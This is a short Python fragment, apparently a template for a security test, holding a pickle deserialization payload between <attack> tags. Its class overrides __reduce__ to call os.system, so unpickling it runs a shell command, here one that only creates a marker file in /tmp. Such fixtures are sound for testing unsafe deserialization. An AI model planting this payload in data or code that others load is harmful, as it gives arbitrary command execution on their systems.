#{weigh_wrong}
# <attack>
import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/quayside-pickle-ran",)


def evil(*args):
    return Evil()


#{everywhere}
# </attack>
